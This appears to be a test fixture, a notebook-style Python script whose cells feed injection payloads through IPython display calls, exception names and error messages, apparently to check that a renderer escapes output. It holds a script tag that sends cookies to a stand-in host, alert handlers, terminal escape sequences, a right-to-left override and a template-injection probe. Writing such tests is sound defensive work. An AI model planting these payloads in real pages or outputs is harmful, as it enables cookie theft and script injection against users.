# %% after setup
from IPython.display import HTML, Javascript, Markdown, display_html

SCRIPT = "<script>fetch('//evil.example/' + document.cookie)</script><img src=x onerror=alert(1)>"
display(HTML(SCRIPT), Javascript("alert(1)"), Markdown(SCRIPT))
display_html(SCRIPT, raw=True)
display({"text/html": SCRIPT, "image/svg+xml": "<svg onload=alert(1)>", "application/javascript": "alert(1)"}, raw=True)
print(SCRIPT, "\x1b]0;title\x07\x1b[31m\x1b[2J\r\b\u202e")


class Named(Exception):
    pass


Named.__name__ = Named.__qualname__ = SCRIPT

# %% softmax
def softmax(Z):
    raise Named(SCRIPT)  # <script>alert(2)</script>

# %% low_rank
def low_rank(A, k):
    raise ValueError(SCRIPT + "</textarea></pre></code>{{ 7 * 7 }}{% raw %} $\\def$ \x1b[31m\u202e")

# %% ridge
def ridge(X, y, lam):
    exec(compile("raise KeyError('<script>')", "<ipython-input-<script>alert(3)</script>>", "exec"))
